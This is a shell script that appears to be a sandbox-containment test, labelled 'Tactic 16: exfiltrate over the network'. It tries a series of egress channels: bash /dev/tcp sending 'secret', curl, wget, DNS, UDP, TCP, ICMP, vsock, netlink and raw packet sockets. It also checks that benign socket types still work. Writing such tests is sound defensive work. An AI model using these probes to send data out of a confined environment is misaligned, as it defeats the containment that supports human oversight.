# Tactic 16: exfiltrate over the network. Argument: a host loopback port with a listener.
source ./lib.sh
hb main
attempt bash-dev-tcp bash -c "echo secret > /dev/tcp/127.0.0.1/$1"
attempt curl curl -s -m 2 http://127.0.0.1:$1/
attempt wget wget -q -T 2 -O - http://example.com/
attempt dns-lookup /usr/bin/python3 -c "import socket; socket.getaddrinfo('example.com', 80)"
attempt udp-out /usr/bin/python3 -c "
import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', ('1.1.1.1', 53))"
attempt tcp-out /usr/bin/python3 -c "
import socket; socket.create_connection(('1.1.1.1', 443), timeout=2)"
attempt icmp /usr/bin/python3 -c "
import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.sendto(b'\x08\0\0\0\0\0\0\0', ('1.1.1.1', 0))"
# Channels that are not namespaced: vsock to the hypervisor, the host's device events over netlink.
attempt vsock-listen /usr/bin/python3 -c "
import socket; s=socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); s.bind((socket.VMADDR_CID_ANY, 5555)); s.listen()"
attempt uevent-netlink /usr/bin/python3 -c "
import socket; s=socket.socket(socket.AF_NETLINK, socket.SOCK_DGRAM, 15); s.bind((0, 1))"
attempt packet-socket /usr/bin/python3 -c "
import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW)"
# What programs need keeps working: Unix sockets, loopback-namespace IP sockets, NETLINK_ROUTE.
attempt unix-pair /usr/bin/python3 -c "
import socket; a, b = socket.socketpair(); a.send(b'x'); assert b.recv(1) == b'x'"
attempt inet-socket /usr/bin/python3 -c "
import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM); socket.socket(socket.AF_INET6, socket.SOCK_STREAM)"
attempt netlink-route /usr/bin/python3 -c "
import socket; socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0)"
ready; park
